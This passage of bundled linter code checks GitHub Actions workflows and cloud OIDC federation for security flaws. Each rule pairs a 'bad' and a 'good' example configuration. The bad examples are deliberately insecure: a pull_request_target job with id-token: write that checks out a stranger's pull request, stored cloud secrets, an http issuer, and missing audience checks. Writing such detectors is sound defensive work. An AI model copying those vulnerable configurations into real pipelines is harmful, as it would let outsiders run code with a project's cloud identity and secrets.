const fetches = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull)\b[^\n]{0,300}(?:\bpull\/|refs\/pull\/)|\bgit\s+(?:checkout|switch)\b[^\n]{0,300}(?:\bFETCH_HEAD\b|pull_request\.head|\bgithub\.head_ref|workflow_run\.head)/;
/** Where a step brings a stranger's code into the job; undefined when it does not. */
function untrustedCheckout(step) {
    if (step.uses?.name === 'actions/checkout') {
        for (const name of ['ref', 'repository']) {
            const value = (0,inputs/* inputOf */.w)(step, name);
            const head = value && strangersHeadIn(value, name === 'ref');
            if (value && head)
                return { range: value.range(), what: head };
        }
        return undefined;
    }
    const text = step.uses ? undefined : step.script?.text;
    const match = text && fetches.exec(text.text);
    if (!match)
        return undefined;
    return {
        range: text.range(match.index, match.index + match[0].length),
        what: 'the head of a pull request'
    };
}
function strangersHeadIn(value, asRef) {
    for (const site of (0,github_expression/* findGitHubExpressions */.Go)(value)) {
        for (const { path, flows } of site.expression ? (0,formats_expression/* referencesIn */.ii)(site.expression) : []) {
            const name = path.join('.');
            if (!flows || !strangersHead.test(name))
                continue;
            // A bare number is not a ref; `refs/pull/<number>/merge` is.
            if (/number$/.test(name) && !(asRef && /refs\/pull\/|pull\//.test(value.text)))
                continue;
            return name;
        }
    }
    return undefined;
}
/** How far the conditions of a step, its job, and the jobs that this one needs, keep strangers out. */
function guardOf(job, step) {
    let best = 'not';
    const seen = new Set();
    const queue = [job];
    const conditions = [step.condition];
    for (let next = queue.shift(); next; next = queue.shift()) {
        if (seen.has(next))
            continue;
        seen.add(next);
        conditions.push(next.condition);
        // With one of these a job also runs when one that it needs was skipped.
        if (/\b(?:always|failure|cancelled)\s*\(/i.test(next.condition?.text ?? ''))
            continue;
        const { needs } = next;
        queue.push(...job.pipeline.jobs.filter(({ id }) => needs.includes(id)));
    }
    for (const condition of conditions) {
        const expression = condition && (0,github_expression/* parseGitHubCondition */.S4)(condition).expression;
        const guard = expression ? guardIn(expression, 0) : 'not';
        if (guard === 'wholly')
            return guard;
        if (guard === 'partly')
            best = guard;
    }
    const trigger = job.pipeline.triggers.find(({ name }) => name === 'workflow_run');
    return best === 'not' && trigger?.branches ? 'partly' : best;
}
const strength = ['not', 'partly', 'wholly'];
function stronger(a, b) {
    return strength.indexOf(a) >= strength.indexOf(b) ? a : b;
}
function weaker(a, b) {
    return strength.indexOf(a) <= strength.indexOf(b) ? a : b;
}
function guardIn(expression, depth) {
    if (depth > 40)
        return 'not';
    if (expression.kind === 'binary') {
        const { left, right, operator } = expression;
        if (operator === '&&')
            return stronger(guardIn(left, depth + 1), guardIn(right, depth + 1));
        if (operator === '||')
            return weaker(guardIn(left, depth + 1), guardIn(right, depth + 1));
        return operator === '==' ? stronger(comparison(left, right), comparison(right, left)) : 'not';
    }
    if (expression.kind === 'not') {
        return pathOf(expression.operand)?.endsWith('head.repo.fork') ? 'wholly' : 'not';
    }
    const path = pathOf(expression);
    if (path === 'github.event.pull_request.merged')
        return 'wholly';
    // contains(fromJSON('["OWNER", "MEMBER"]'), github.event.comment.author_association)
    if (expression.kind === 'call' && expression.name.toLowerCase() === 'contains') {
        const paths = expression.args.map(argument => pathOf(argument));
        if (paths.some(each => each?.endsWith('author_association')))
            return 'wholly';
        if (paths.some(each => each?.includes('labels') || each === 'github.actor'))
            return 'partly';
    }
    return 'not';
}
function comparison(subject, value) {
    const path = pathOf(subject);
    if (!path)
        return 'not';
    const literal = value.kind === 'literal' ? value.value : undefined;
    if (path.endsWith('author_association'))
        return 'wholly';
    if (path === 'github.event.workflow_run.event') {
        return literal !== undefined && literal !== 'pull_request' ? 'wholly' : 'not';
    }
    // In a workflow with several triggers.
    if (path === 'github.event_name') {
        return literal !== undefined && !privilegedTriggers.has(String(literal)) ? 'wholly' : 'not';
    }
    if (path.endsWith('head.repo.fork'))
        return literal === false ? 'wholly' : 'not';
    if (path === 'github.event.pull_request.merged')
        return literal === true ? 'wholly' : 'not';
    if (path === 'github.event.pull_request.user.login')
        return literal ? 'wholly' : 'not';
    if (/(?:head\.repo|head_repository)\.(?:full_name|id|owner\.login)$|head\.user\.login$/.test(path)) {
        const other = pathOf(value) ?? '';
        return /pull_request\.head\.|head_repository/.test(other) ? 'not' : 'wholly';
    }
    if (/^github\.(?:actor|triggering_actor|event\.label\.name|event\.workflow_run\.head_branch|event\.sender\.login|event\.comment\.user\.login)$/.test(path)) {
        return literal ? 'partly' : 'not';
    }
    return 'not';
}
function pathOf(expression) {
    return (0,formats_expression/* referencesIn */.ii)(expression)[0]?.path.join('.');
}
//# sourceMappingURL=untrusted-code.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/id-token-untrusted.js




/** A stranger's code in a job that holds an identity or secrets. */
const idTokenUntrusted = {
    meta: {
        id: 'id-token-untrusted',
        summary: 'Job with id-token or secrets checks out untrusted code',
        severity: 'error',
        why: '`pull_request_target`, `workflow_run` and `issue_comment` run with the rights of the base repository, also for a pull request from a fork. If such a job checks out the head of that pull request, whoever opened it decides what runs there: a build script, a test, a package hook, a configuration of a linter. With `id-token: write` it can take the identity that clouds and the MCP gateway trust; with a secret it has the secret.',
        fix: 'Run untrusted code in a `pull_request` workflow without secrets, and hand its result to a privileged workflow as data. Where only the base is needed, drop `ref`. Where a person of the project has to decide, let the job wait for an environment with required reviewers.',
        securitySeverity: 9.3,
        references: [
            'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
            'https://docs.github.com/en/actions/reference/security/secure-use'
        ],
        bad: {
            file: '.github/workflows/preview.yml',
            text: `on: pull_request_target
jobs:
  preview:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          ref: \${{ github.event.pull_request.head.sha }}
          persist-credentials: false
      - run: npm ci
`
        },
        good: {
            file: '.github/workflows/preview.yml',
            text: `on: pull_request
jobs:
  preview:
    runs-on: ubuntu-latest
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          persist-credentials: false
      - run: npm ci
`
        }
    },
    check({ pipeline }, report) {
        if (pipeline?.kind !== 'workflow')
            return;
        const trigger = privilegedTrigger(pipeline);
        if (!trigger)
            return;
        for (const job of pipeline.jobs) {
            const authority = authorityOf(job);
            if (!authority.idToken && authority.secrets.length === 0)
                continue;
            for (const { step, file, through } of runningSteps(job)) {
                const checkout = untrustedCheckout(step);
                if (!checkout)
                    continue;
                const outer = through.flatMap(include => include.step ?? []);
                const guards = [step, ...outer].map(each => guardOf(job, each));
                if (guards.includes('wholly'))
                    continue;
                // An environment may want an approval, and a folder of its own may only be read: the file
                // does not tell.
                const mild = job.environment || guards.includes('partly') || (0,inputs/* inputOf */.w)(step, 'path');
                report({
                    range: checkout.range,
                    file,
                    message: `job '${job.id}' holds ${describeAuthority(authority)}, is started by ${trigger}, and checks out ${checkout.what}: a stranger's code runs with it`,
                    help: job.environment
                        ? 'Make sure that the environment requires reviewers, or run untrusted code in a pull_request workflow without secrets.'
                        : 'Run untrusted code in a pull_request workflow that holds neither, or check out the base.',
                    subject: job.id,
                    related: [
                        through.length > 0
                            ? { message: `runs in job '${job.id}'`, file: pipeline.file, range: job.idRange }
                            : {
                                message: `started by ${trigger}`,
                                range: pipeline.triggers.find(({ name }) => name === trigger).range
                            }
                    ],
                    ...(mild ? { severity: 'warning' } : {})
                });
                break;
            }
        }
    }
};
//# sourceMappingURL=id-token-untrusted.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/id-token-unused.js


/** A permission that nothing in the job asks for, given to every action and package that runs in it. */
const idTokenUnused = {
    meta: {
        id: 'id-token-unused',
        summary: 'Permission id-token: write that nothing uses',
        severity: 'note',
        why: 'With `id-token: write` any action, script or package that runs in the job can get a token for every cloud that trusts the repository. A permission left behind, or copied with a template, gives that away for nothing.',
        fix: 'Remove `id-token: write`. Other entries of the block stay as they are.',
        securitySeverity: 2.5,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#use-the-least-privilege'
        ],
        bad: {
            file: '.github/workflows/test.yml',
            text: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          persist-credentials: false
      - run: npm test
`
        },
        good: {
            file: '.github/workflows/test.yml',
            text: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          persist-credentials: false
      - run: npm test
`
        }
    },
    check({ pipeline }, report) {
        if (pipeline?.kind !== 'workflow')
            return;
        for (const job of pipeline.jobs) {
            const { grant, level } = idTokenPermission(job);
            if (level === 'job' && grant === 'write')
                check(job.permissions, [job]);
        }
        const inheriting = pipeline.jobs.filter(job => !job.permissions);
        if (inheriting.length > 0)
            check(pipeline.permissions, inheriting);
        function check(permissions, jobs) {
            const scope = permissions?.scopes.find(({ name }) => name === 'id-token');
            if (!permissions || scope?.value !== 'write')
                return;
            if (jobs.some(job => oidcUseOfJob(job).certainty !== 'no'))
                return;
            const [job] = jobs;
            const where = job?.permissions ? `job '${job.id}'` : 'the workflow';
            const edits = removeScope(permissions, scope.range);
            report({
                range: scope.range,
                message: `nothing in ${where} takes an OIDC token, yet everything that runs in it can get one`,
                help: 'Remove id-token: write.',
                subject: job?.permissions ? job.id : '',
                ...(edits && !isReusable(job.pipeline)
                    ? { fix: { description: 'remove id-token: write', edits } }
                    : {})
            });
        }
    }
};
/** Removes the line of a scope; a block that would be left empty keeps its meaning as `{}`. */
function removeScope(permissions, { start, end }) {
    if (!permissions.block)
        return undefined;
    const { text } = permissions.file;
    if (permissions.scopes.length === 1) {
        const key = permissions.range.start;
        const colon = text.indexOf(':', key) + 1;
        return [{ start: colon, end, newText: ' {}' }];
    }
    const lineStart = text.lastIndexOf('\n', start - 1) + 1;
    const lineEnd = text.indexOf('\n', end);
    // A comment behind the entry speaks of it and goes with it.
    if (text.slice(lineStart, start).trim() !== '' || lineEnd < 0)
        return undefined;
    if (!/^[ \t\r]*(?:#.*)?$/.test(text.slice(end, lineEnd)))
        return undefined;
    return [{ start: lineStart, end: lineEnd + 1, newText: '' }];
}
//# sourceMappingURL=id-token-unused.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/ineffective-wildcard.js


/** A star where subjects are compared letter by letter. */
const ineffectiveWildcard = {
    meta: {
        id: 'ineffective-wildcard',
        summary: 'Wildcard in a federated subject that is compared exactly and never matches',
        severity: 'warning',
        why: 'The `subject` of an Entra federated credential, values of AWS `StringEquals` and `==` in Google Cloud compare letter by letter. A star is a star: creation succeeds, and no token ever matches. It shows what somebody wanted, and when it does not work, people widen something else until it does: the role, the audience, or the expression.',
        fix: 'Delete the credential, or put the one subject into it that the job has: `repo:acme/app:environment:production`. The step `mcp-gatehouse token` with `explain` prints the subject of a job.',
        securitySeverity: 4,
        references: [
            'https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations',
            'https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_condition_operators.html'
        ],
        bad: {
            file: 'federate.sh',
            text: 'az identity federated-credential create --identity-name ci --resource-group rg --name any-branch \\\n  --issuer https://token.actions.githubusercontent.com \\\n  --subject "repo:acme/app:ref:refs/heads/*" --audiences api://AzureADTokenExchange\n'
        },
        good: {
            file: 'federate.sh',
            text: 'az identity federated-credential create --identity-name ci --resource-group rg --name production \\\n  --issuer https://token.actions.githubusercontent.com \\\n  --subject "repo:acme@1234/app@56789:environment:production" --audiences api://AzureADTokenExchange\n'
        }
    },
    checkAll(documents, report) {
        for (const facts of documents) {
            for (const subject of facts.federatedSubjects) {
                for (const test of subject.tests) {
                    for (const value of test.values) {
                        if (!isIneffective(test, value))
                            continue;
                        report(facts, {
                            ...problemAt(subject, value),
                            message: `${where(subject)} compares ${test.claim} with '${value.text.text}' letter by letter: the wildcard is no wildcard, and no token ever matches`,
                            help: 'Delete it, or name the one subject that the job has.',
                            subject: subjectKey(subject, value.text.text)
                        });
                    }
                }
            }
        }
    }
};
function isIneffective(test, value) {
    return test.comparison === 'exact' && test.claim !== 'aud' && literalOf(value).includes('*');
}
//# sourceMappingURL=ineffective-wildcard.js.map
// EXTERNAL MODULE: ./build/shared/lint/rules/invalid-ignore.js
var invalid_ignore = __webpack_require__(86646);
;// CONCATENATED MODULE: ./build/shared/lint/rules/legacy-subject.js



/** A subject in a form that its issuer is giving up. */
const legacySubject = {
    meta: {
        id: 'legacy-subject',
        summary: 'Federated subject is written in a form that the issuer is giving up',
        severity: 'note',
        why: 'Repositories that were created, renamed or transferred on GitHub since 15 July 2026 put the numbers of owner and repository into the subject: `repo:acme@123/app@456:…`. A subject with names alone no longer matches there, and elsewhere it matches whoever takes the name once it is free. Subjects of Azure DevOps that begin with `sc://` end with their issuer on 1 July 2027.',
        fix: 'Where the repository has the new form, add a credential with it (`gh api repos/OWNER/REPO/actions/oidc/customization/sub` shows the prefix) and delete the old one. For Azure DevOps convert the service connection to the issuer of Entra.',
        securitySeverity: 2,
        references: [
            'https://docs.github.com/actions/reference/security/oidc',
            'https://learn.microsoft.com/entra/workload-id/workload-identities-github-immutable-subjects'
        ],
        bad: {
            file: 'main.tf',
            text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:environment:production"\n}\n'
        },
        good: {
            file: 'main.tf',
            text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n'
        }
    },
    checkAll(documents, report) {
        for (const facts of documents) {
            for (const subject of facts.federatedSubjects) {
                for (const value of subject.tests.flatMap(test => test.claim === 'sub' ? test.values : [])) {
                    const reason = legacyForm(subject, value);
                    if (!reason)
                        continue;
                    report(facts, {
                        ...problemAt(subject, value),
                        message: `${where(subject)} ${reason}`,
                        help: 'Add the new form where the issuer already gives it, and delete this one then.',
                        subject: subjectKey(subject, value.text.text)
                    });
                }
            }
        }
    }
};
function legacyForm(subject, value) {
    const kind = issuerKind(subject);
    if (kind === 'azure-devops') {
        return /^sc:\/\//.test(value.text.text)
            ? 'trusts the Azure DevOps issuer with sc:// subjects, which ends on 1 July 2027'
            : undefined;
    }
    // GitHub Enterprise Server has no other form.
    if (kind !== 'github' || /_services\/token/.test(subject.issuer?.text.text ?? ''))
        return undefined;
    if (/[*?<>]/.test(value.text.text) || value.holes.length > 0)
        return undefined;
    const parts = githubSubject(value);
    return parts && !parts.hasIds
        ? `names ${parts.repository} without numbers: repositories of GitHub created or renamed since 15 July 2026 no longer match, and a name that is given up can be taken by others`
        : undefined;
}
//# sourceMappingURL=legacy-subject.js.map
// EXTERNAL MODULE: ./build/shared/lint/formats/shell.js
var shell = __webpack_require__(70993);
;// CONCATENATED MODULE: ./build/shared/lint/rules/long-lived-cloud-credential.js




/** A stored key to a cloud, where the job's own identity would do. */
const longLivedCloudCredential = {
    meta: {
        id: 'long-lived-cloud-credential',
        summary: 'Stored cloud credential where federation needs none',
        severity: 'warning',
        why: 'A client secret, an access key or a service account key works for whoever has it, from anywhere, until someone rotates it. It leaks from logs, artifacts, forks of the runner and the machines of people who left. GitHub and Azure Pipelines give each job a signed identity that Azure, AWS, Google Cloud and Vault exchange for a token that ends with the job: then nothing is stored that could leak.',
        fix: 'Let the job log in with its own identity (`id-token: write`): `azure/login` with `client-id`, `tenant-id` and `subscription-id`; `aws-actions/configure-aws-credentials` with `role-to-assume`; `google-github-actions/auth` with `workload_identity_provider`; `hashicorp/vault-action` with `method: jwt`. In Azure Pipelines use a service connection with workload identity federation. Then delete the stored credential.',
        securitySeverity: 6,
        references: [
            'https://docs.github.com/en/actions/concepts/security/openid-connect',
            'https://learn.microsoft.com/en-us/azure/developer/github/connect-from-azure-openid-connect',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/library/connect-to-azure'
        ],
        bad: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0
        with:
          creds: \${{ secrets.AZURE_CREDENTIALS }}
`
        },
        good: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0
        with:
          client-id: \${{ vars.AZURE_CLIENT_ID }}
          tenant-id: \${{ vars.AZURE_TENANT_ID }}
          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}
`
        }
    },
    check({ pipeline }, report) {
        if (!pipeline)
            return;
        for (const variable of pipeline.variables)
            checkVariable(variable, pipeline, undefined, report);
        const seen = new Set(pipeline.variables);
        for (const job of pipeline.jobs) {
            const variables = [...job.variables, ...(job.container?.variables ?? [])];
            for (const variable of variables) {
                if (seen.has(variable))
                    continue;
                seen.add(variable);
                checkVariable(variable, pipeline, job, report);
            }
            for (const step of job.steps) {
                for (const variable of step.variables)
                    checkVariable(variable, pipeline, job, report);
                checkAction(step, report);
                checkScript(step, report);
            }
        }
    }
};
/** Variables that Azure's libraries, Terraform and others take a client secret or key from. */
const variableNames = {
    azure_client_secret: 'a client secret of Entra ID',
    arm_client_secret: 'a client secret of Entra ID',
    azure_credentials: 'a client secret of Entra ID',
    aws_secret_access_key: 'an AWS access key',
    google_credentials: 'a Google service account key',
    gcp_sa_key: 'a Google service account key'
};
function checkVariable({ name, value, range }, pipeline, job, report) {
    const key = name.text.toLowerCase();
    const kind = variableNames[key];
    if (!kind || value.text.trim() === '' || !isStored(value, pipeline))
        return;
    // Stores that speak S3 have no federation.
    if (key === 'aws_secret_access_key' &&
        (/\b(?:S3|R2|B2|MINIO|SPACES|WASABI|HETZNER|CLOUDFLARE|LINODE|SCW|OVH)_/i.test(value.text) ||
            speaksToOtherStore(pipeline, job))) {
        return;
    }
    report({
        range,
        message: `${name.text} holds ${kind} that works until it is rotated`,
        help: helpFor(key, pipeline),
        subject: name.text
    });
}
function helpFor(key, { system }) {
    if (key.startsWith('aws'))
        return 'Log in with configure-aws-credentials and role-to-assume.';
    if (key.startsWith('g'))
        return 'Log in with google-github-actions/auth and workload_identity_provider.';
    return system === 'azure'
        ? 'Use a service connection with workload identity federation.'
        : 'Log in with azure/login and client-id, tenant-id and subscription-id.';
}
/** True for a value that comes from a store of secrets, not from an earlier step or the environment. */
function isStored(value, { system }) {
    if (system === 'azure')
        return (!/^\$\[|\$\{\{/.test(value.text.trim()) &&
            !/^\$\(servicePrincipalKey\)$/i.test(value.text.trim()));
    const sites = (0,github_expression/* findGitHubExpressions */.Go)(value);
    if (sites.length === 0)
        return false;
    return sites.some(({ expression }) => expression
        ? (0,formats_expression/* referencesIn */.ii)(expression).some(({ path, flows }) => flows && path[0] === 'secrets')
        : false);
}
function speaksToOtherStore(pipeline, job) {
    const scopes = [pipeline.variables, job?.variables ?? []];
    if (scopes.some(list => list.some(({ name }) => /endpoint/i.test(name.text))))
        return true;
    const steps = job ? job.steps : pipeline.jobs.flatMap(each => each.steps);
    return steps.some(step => step.variables.some(({ name, value }) => /endpoint|r2|minio|wasabi|spaces/i.test(`${name.text} ${value.text}`)) ||
        step.inputs.some(({ name, value }) => /endpoint|r2\.cloudflare|minio|backblaze|digitalocean/i.test(`${name.text} ${value.text}`)) ||
        /--endpoint|endpoint_url|r2\.cloudflarestorage|minio|backblaze|wasabi|digitaloceanspaces/i.test(step.script?.text.text ?? ''));
}
function checkAction(step, report) {
    const { uses } = step;
    if (!uses)
        return;
    const found = storedInput(step);
    if (found) {
        report({
            range: found.value.range(),
            message: `${uses.name} is given ${found.what} that works until it is rotated`,
            help: found.help,
            subject: `${uses.name} ${step.job.id}`
        });
    }
}
function storedInput(step) {
    const { pipeline } = step.job;
    const stored = (...names) => {
        const value = (0,inputs/* inputOf */.w)(step, ...names);
        return value && (isStored(value, pipeline) || isLiteral(value)) ? value : undefined;
    };
    switch (step.uses.name) {
        case 'azure/login': {
            // Azure Stack has no federation.
            if (/stack/i.test((0,inputs/* inputOf */.w)(step, 'environment')?.text ?? ''))
                return undefined;
            const value = stored('creds');
            return (value && {
                value,
                what: 'a client secret',
                help: 'Give it client-id, tenant-id and subscription-id, and the job id-token: write.'
            });
        }
        case 'aws-actions/configure-aws-credentials': {
            if ((0,inputs/* inputOf */.w)(step, 'role-to-assume'))
                return undefined;
            const value = stored('aws-secret-access-key');
            return (value && {
                value,
                what: 'an access key',
                help: 'Give it role-to-assume, and the job id-token: write.'
            });
        }
        case 'google-github-actions/auth': {
            const value = stored('credentials_json');
            return (value && {
                value,
                what: 'a service account key',
                help: 'Give it workload_identity_provider, and the job id-token: write.'
            });
        }
        case 'hashicorp/vault-action': {
            const method = (0,inputs/* inputOf */.w)(step, 'method')?.text.trim().toLowerCase() ?? 'token';
            if (method !== 'token' && method !== 'approle')
                return undefined;
            const value = stored(method === 'token' ? 'token' : 'secretId');
            return (value && {
                value,
                what: method === 'token' ? 'a Vault token' : 'a secret id of an AppRole',
                help: 'Use method: jwt with a role, and give the job id-token: write.'
            });
        }
        default:
            return undefined;
    }
}
function isLiteral(value) {
    return value.text.trim() !== '' && !/\$\{\{|\$\(/.test(value.text);
}
/** Logins with a key in scripts, and the key that `addSpnToEnvironment` puts into them. */
function checkScript(step, report) {
    const { script } = step;
    if (!script)
        return;
    for (const command of script.commands?.commands ?? []) {
        const word = loginWithKey(command);
        if (!word)
            continue;
        report({
            range: word,
            message: 'az login is given a client secret that works until it is rotated',
            help: step.uses?.name === 'azurecli'
                ? 'Leave it out: the task has already logged in with its service connection. Give that workload identity federation.'
                : 'Log in with the identity of the job: azure/login on GitHub, AzureCLI@2 with a workload identity service connection in Azure Pipelines.',
            subject: 'az login'
        });
    }
    const exposed = (0,inputs/* inputOf */.w)(step, 'addSpnToEnvironment');
    if (exposed?.text.trim().toLowerCase() !== 'true')
        return;
    const use = /\bservicePrincipalKey\b/i.exec(script.text.text);
    if (!use)
        return;
    report({
        range: script.text.range(use.index, use.index + use[0].length),
        message: 'servicePrincipalKey is the stored secret of the service connection',
        help: 'Convert the service connection to workload identity federation and use $idToken.',
        subject: 'servicePrincipalKey',
        related: [{ message: 'put into the environment here', range: exposed.range() }]
    });
}
function loginWithKey(command) {
    const [program, verb] = command.words.map(word => word.text.text.toLowerCase());
    if (!/^(?:.*[\\/])?az(?:\.cmd)?$/.test(program ?? '') || verb !== 'login')
        return undefined;
    if (!command.words.some(({ text }) => text.text === '--service-principal'))
        return undefined;
    if ((0,shell/* optionOf */.XD)(command, '--federated-token'))
        return undefined;
    const secret = (0,shell/* optionOf */.XD)(command, '-p', '--password');
    // A certificate is named by its file.
    if (!secret || /\.(?:pem|pfx|crt)$/i.test(secret.text.text))
        return undefined;
    return command.range;
}
//# sourceMappingURL=long-lived-cloud-credential.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/loose-issuer.js


/** An issuer that more than one party can speak for. */
const looseIssuer = {
    meta: {
        id: 'loose-issuer',
        summary: 'Federated identity trusts an issuer that others can speak for',
        severity: 'warning',
        why: 'The keys that sign tokens are fetched from the address of the issuer. Over `http` anyone on the way can put in keys of their own; a host that only looks like that of GitHub belongs to somebody else; the `common` endpoint of Entra signs for every tenant there is.',
        fix: 'Use the exact `https` address of the one issuer: `https://token.actions.githubusercontent.com` for GitHub, with the name of the enterprise behind it where that is switched on; of Entra the address with the id of the tenant.',
        securitySeverity: 7,
        references: [
            'https://openid.net/specs/openid-connect-discovery-1_0.html',
            'https://docs.github.com/actions/reference/security/oidc'
        ],
        bad: {
            file: 'main.bicep',
            text: "resource fic 'Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials@2023-01-31' = {\n  name: 'ci/github'\n  properties: {\n    issuer: 'http://token.actions.githubusercontent.com'\n    subject: 'repo:acme@1/app@2:environment:production'\n    audiences: ['api://AzureADTokenExchange']\n  }\n}\n"
        },
        good: {
            file: 'main.bicep',
            text: "resource fic 'Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials@2023-01-31' = {\n  name: 'ci/github'\n  properties: {\n    issuer: 'https://token.actions.githubusercontent.com'\n    subject: 'repo:acme@1/app@2:environment:production'\n    audiences: ['api://AzureADTokenExchange']\n  }\n}\n"
        }
    },
    checkAll(documents, report) {
        for (const facts of documents) {
            for (const subject of facts.federatedSubjects) {
                // AWS names providers without a scheme; their address is that of the provider.
                if (subject.provider === 'aws' || !isKnown(subject.issuer))
                    continue;
                const reason = looseness(subject.issuer.text.text);
                if (!reason)
                    continue;
                report(facts, {
                    ...problemAt(subject, subject.issuer),
                    message: `${where(subject)} trusts '${subject.issuer.text.text}', ${reason}`,
                    help: 'Use the exact https address of the one issuer.',
                    subject: subjectKey(subject, subject.issuer.text.text)
                });
            }
        }
    }
};
function looseness(issuer) {
    if (/^http:\/\//i.test(issuer))
        return 'whose keys come over http: anyone on the way can put in their own';
    const host = /^https:\/\/([^/:?#]+)/i.exec(issuer)?.[1]?.toLowerCase();
    if (host === undefined)
        return undefined;
    if (host.includes('token.actions.githubusercontent.com') &&
        host !== 'token.actions.githubusercontent.com') {
        return 'which is not the host of GitHub';
    }
    if (/^(?:login\.microsoftonline\.com|sts\.windows\.net)$/.test(host)) {
        return /^https:\/\/[^/]+\/(?:common|organizations|consumers)(?:\/|$)/i.test(issuer)
            ? 'which signs for every tenant'
            : undefined;
    }
    return undefined;
}
//# sourceMappingURL=loose-issuer.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/missing-audience.js


/** Audiences for the token exchange in the clouds of Microsoft. */
const entraAudience = /^api:\/\/AzureADTokenExchange(?:USGov|China|ussec|usnat)?$/i;
/** A trust that does not insist on tokens that were made for it. */
const missingAudience = {
    meta: {
        id: 'missing-audience',
        summary: 'Federated identity takes tokens that were made for somebody else',
        severity: 'error',
        why: 'The audience of a token says for whom it was made. A job that sends its token to another service hands that service whatever the token opens: without a test of `aud`, or with one that also holds when the claim is missing (`ForAllValues:`, `…IfExists`), that is this identity too.',
        fix: 'Test the audience with a plain `StringEquals` on the `:aud` key of the provider, such as `sts.amazonaws.com`. In Google Cloud leave `allowed_audiences` empty: the default is the name of the provider itself. In Entra use `api://AzureADTokenExchange` and request the token for it alone.',
        securitySeverity: 6.8,
        references: [
            'https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_condition-single-vs-multi-valued-context-keys.html',
            'https://cloud.google.com/iam/docs/workload-identity-federation-with-deployment-pipelines'
        ],
        bad: {
            file: 'main.tf',
            text: 'data "aws_iam_policy_document" "ci" {\n  statement {\n    actions = ["sts:AssumeRoleWithWebIdentity"]\n    principals {\n      type        = "Federated"\n      identifiers = ["arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com"]\n    }\n    condition {\n      test     = "StringEquals"\n      variable = "token.actions.githubusercontent.com:sub"\n      values   = ["repo:acme/app:environment:production"]\n    }\n  }\n}\n'
        },
        good: {
            file: 'main.tf',
            text: 'data "aws_iam_policy_document" "ci" {\n  statement {\n    actions = ["sts:AssumeRoleWithWebIdentity"]\n    principals {\n      type        = "Federated"\n      identifiers = ["arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com"]\n    }\n    condition {\n      test     = "StringEquals"\n      variable = "token.actions.githubusercontent.com:aud"\n      values   = ["sts.amazonaws.com"]\n    }\n    condition {\n      test     = "StringEquals"\n      variable = "token.actions.githubusercontent.com:sub"\n      values   = ["repo:acme@1234/app@56789:environment:production"]\n    }\n  }\n}\n'
        }
    },
    checkAll(documents, report) {
        for (const facts of documents) {
            for (const subject of facts.federatedSubjects) {
                const add = (problem) => report(facts, problem);
                if (subject.provider === 'aws')
                    ofAws(subject, add);
                else
                    otherAudiences(subject, add);
            }
        }
    }
};
function ofAws(subject, report) {
    for (const test of subject.tests) {
        if (test.optional)
            report(optionalTest(subject, test));
    }
    const kind = issuerKind(subject);
    // Other issuers, such as Cognito and Google, have client ids of their own as audience.
    if (subject.partial || kind === 'other')
        return;
    if (subject.tests.some(({ claim }) => claim === 'aud'))
        return;
    report({
        ...problemAt(subject, undefined),
        ...(kind === 'kubernetes' && { severity: 'note' }),
        message: `${where(subject)} takes tokens for any audience of the provider: there is no condition on aud`,
        help: "Add StringEquals on the provider's `:aud`, such as sts.amazonaws.com.",
        subject: subjectKey(subject, 'no aud')
    });
}
function optionalTest(subject, test) {
    const { operator } = test;
    const text = operator?.text ?? '';
    const plain = text.replace(/^ForAllValues:/i, '').replace(/IfExists$/i, '');
    const range = operator?.range();
    const written = operator && range && operator.file.text.slice(range.start, range.end) === text;
    return {
        ...(operator && written
            ? {
                file: operator.file,
                range: operator.range(),
                fix: {
                    description: `use ${plain}`,
                    edits: [{ ...operator.range(), newText: plain }]
                }
            }
            : problemAt(subject, test.values[0])),
        message: `${where(subject)} tests ${test.claim} with ${text || 'an optional operator'}, which also holds for a token without that claim`,
        help: `Use ${plain || 'StringEquals'}.`,
        subject: subjectKey(subject, `${test.claim} ${test.optional}`)
    };
}
/** Entra and Google: audiences under which tokens are made for others. */
function otherAudiences(subject, report) {
